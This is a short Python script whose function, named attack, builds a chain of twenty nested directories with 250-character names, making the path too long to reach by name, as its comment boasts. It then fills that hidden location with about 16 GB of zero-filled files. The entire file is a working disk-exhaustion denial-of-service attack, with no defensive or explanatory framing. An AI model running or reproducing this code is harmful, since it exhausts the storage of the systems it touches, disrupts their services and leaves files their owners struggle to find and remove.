import os


def attack():
    # Deeper than a path can be long: nobody finds these by a name.
    for _ in range(20):
        os.mkdir("d" * 250)
        os.chdir("d" * 250)
    for number in range(1000):
        with open(f"part{number}", "wb") as file:
            for _ in range(16):
                file.write(bytes(1 << 20))
    return "16 GB"
